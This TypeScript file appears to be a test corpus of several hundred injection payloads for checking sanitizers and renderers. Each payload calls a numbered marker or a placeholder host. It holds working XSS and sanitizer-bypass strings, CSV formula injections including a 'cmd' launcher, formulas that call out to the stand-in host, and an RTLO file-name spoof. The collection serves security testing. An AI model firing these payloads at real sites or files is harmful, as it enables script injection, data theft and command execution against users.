/**
 * A text that would run as code in a page, a spreadsheet or a PDF reader that mistakes it for code; each
 * payload calls its own number.
 */
type Payload = string

/** The host of addresses that no program may call. */
export const canaryHost = 'canary.example'

const families: Record<string, (run: string) => readonly Payload[]> = {
  tags: (run) => [
    `<script>${run}</script>`,
    `<ScRiPt >${run}</sCrIpT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script src=//${canaryHost}/x.js></script>`,
    `<script type=module>${run}</script>`,
    `<img src=x onerror=${run}>`,
    `<img/src=x/onerror=${run}//`,
    `<image src=x onerror=${run}>`,
    `<img src=//${canaryHost}/pixel>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}>`,
    `<textarea autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>`,
    `<marquee onstart=${run}>`,
    `<body onload=${run}>`,
    `<iframe srcdoc="<script>parent.${run}</script>">`,
    `<iframe src="javascript:parent.${run}">`,
    `<object data="javascript:${run}">`,
    `<embed src="//${canaryHost}/x.swf">`,
    `<link rel=stylesheet href=//${canaryHost}/x.css>`,
    `<meta http-equiv=refresh content="0;url=//${canaryHost}/">`,
    `<base href=//${canaryHost}/>`,
    `<style>@import '//${canaryHost}/x.css'</style>`,
    `<style>*{animation:x}@keyframes x{}</style><b style=animation-name:x onanimationstart=${run}>`,
    `<form action=javascript:${run}><input type=submit autofocus>`,
    `<button formaction=javascript:${run} autofocus>press`,
    `<a href=javascript:${run} autofocus>here</a>`,
    `<table background=javascript:${run}><td>`,
    `<frameset onload=${run}>`,
    `<template><img src=x onerror=${run}></template>`,
    `<div popover id=p onbeforetoggle=${run}></div><button popovertarget=p>x`,
  ],
  attributes: (run) =>
    [
      '"',
      "'",
      '`',
      '">',
      "'>",
      '</td>',
      '</textarea>',
      '</title>',
      '</script>',
      '</style>',
      '-->',
      ']]>',
      '\\">',
      '&quot;>',
    ].flatMap((breakout) => [
      `${breakout} onmouseover=${run} x=`,
      `${breakout} autofocus onfocus=${run} tabindex=0 x=`,
      `${breakout}<img src=x onerror=${run}>`,
      `${breakout}<svg onload=${run}>`,
      `${breakout} style=position:fixed;inset:0 onpointerenter=${run} x=`,
    ]),
  addresses: (run) =>
    [
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      'java\nscript:',
      '\u0001javascript:',
      'javascript&colon;',
      '&#106;avascript:',
      'javascript://%0a',
      'vbscript:',
      'data:text/javascript,',
      `data:text/html,<script>parent.`,
      `//${canaryHost}/`,
    ].flatMap((scheme) => [`${scheme}${run}`, `<a href="${scheme}${run}">x</a>`, `[x](${scheme}${run})`]),
  svg: (run) => [
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href=//${canaryHost}/x.js /></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><a xlink:href=javascript:${run}><text y=20>x`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>x`,
    `<svg><set onbegin=${run} attributeName=x>`,
    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x">`,
    `<svg><image href=//${canaryHost}/pixel></svg>`,
    `<math><a xlink:href=javascript:${run}>x`,
    `<math href=javascript:${run}>x</math>`,
  ],
  templates: (run) => [
    `{{constructor.constructor('${run}')()}}`,
    `{{${run}}}`,
    `{{{${run}}}}`,
    `\${${run}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `{%${run}%}`,
    `[[${run}]]`,
    `{${run}}`,
    `<div v-html="'<img src=x onerror=${run}>'"></div>`,
    `<div ng-app ng-csp>{{$eval.constructor('${run}')()}}</div>`,
    `<x x-init=${run} x-data></x>`,
  ],
  mutations: (run) => [
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<plaintext><img src=x onerror=${run}>`,
    `<option><style></option></select><img src=x onerror=${run}></style>`,
    `<a id=x><a id=x name=y href=javascript:${run}>`,
    `<form id=__proto__><input name=innerHTML value="<img src=x onerror=${run}>">`,
    `<!--><img src=x onerror=${run}>-->`,
  ],
  encodings: (run) => {
    const code = (text: string, of: (character: string) => string) => [...text].map(of).join('')
    const point = (character: string) => character.codePointAt(0) ?? 0
    return [`<img src=x onerror=${run}>`, `<script>${run}</script>`].flatMap((text) => [
      code(text, (one) => `&#${point(one)};`),
      code(text, (one) => `&#x${point(one).toString(16)}`),
      text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
      encodeURIComponent(text),
      encodeURIComponent(encodeURIComponent(text)),
      code(text, (one) => `\\u${point(one).toString(16).padStart(4, '0')}`),
      code(text, (one) => `\\x${point(one).toString(16).padStart(2, '0')}`),
      text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
      text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
      text.replaceAll('<', '＜').replaceAll('>', '＞'),
      btoa(text),
    ])
  },
  formulas: (run) =>
    [
      '=',
      '+',
      '-',
      '@',
      '\t=',
      '\r=',
      '\n=',
      ' =',
      '\u00a0=',
      '\ufeff=',
      '\u200b=',
      '\u2060@',
      '\u202e+',
      '＝',
      '＋',
    ].flatMap((sign) => [
      `${sign}cmd|'/c calc'!A1 ${run}`,
      `${sign}HYPERLINK("http://${canaryHost}/${run}","x")`,
      `${sign}WEBSERVICE("http://${canaryHost}/${run}")`,
      `${sign}1+1;${run}`,
      `${sign}SUM(1,2)*${run}`,
    ]),
  directions: (run) => [
    ...['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'].map(
      (mark) => `${mark}<img src=x onerror=${run}>`,
    ),
    `\u202efdp.${run}\u202c.exe`,
    `a\u2066"\u2069 onmouseover=${run} b`,
    `\u202a</td>\u202c<svg onload=${run}>`,
  ],
  invisibles: (run) => [
    ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f'].map(
      (mark) => `<scr${mark}ipt>${run}</scr${mark}ipt>`,
    ),
    `<\u200bimg src=x onerror=${run}>`,
    `<img\u000csrc=x\u000conerror=${run}>`,
  ],
  strings: (run) => [
    `';${run};//`,
    `";${run};//`,
    `\`;${run};//`,
    `\\';${run};//`,
    `*/${run}/*`,
    `\u2028${run}\u2029`,
    `</script><script>${run}</script>`,
    `<!--<script>${run}//-->`,
    `)${run}(`,
    `__proto__[${run}]`,
  ],
}

const numbers = Object.values(families).flatMap((family) =>
  family('').map((_, index) => [family, index] as const),
)

/** All payloads, at least 300, each with the call `__ran(<its index in the list>)`. */
export const scriptPayloads: readonly Payload[] = numbers.map(
  ([family, index], number) => family(`__ran(${number})`)[index] ?? '',
)

/** A sample of `count` payloads with some of every family; all payloads when there are no more. */
export function samplePayloads(count: number): readonly Payload[] {
  const total = Math.min(count, scriptPayloads.length)
  const step = scriptPayloads.length / total
  return Array.from({ length: total }, (_, index) => scriptPayloads[Math.floor(index * step)] ?? '')
}
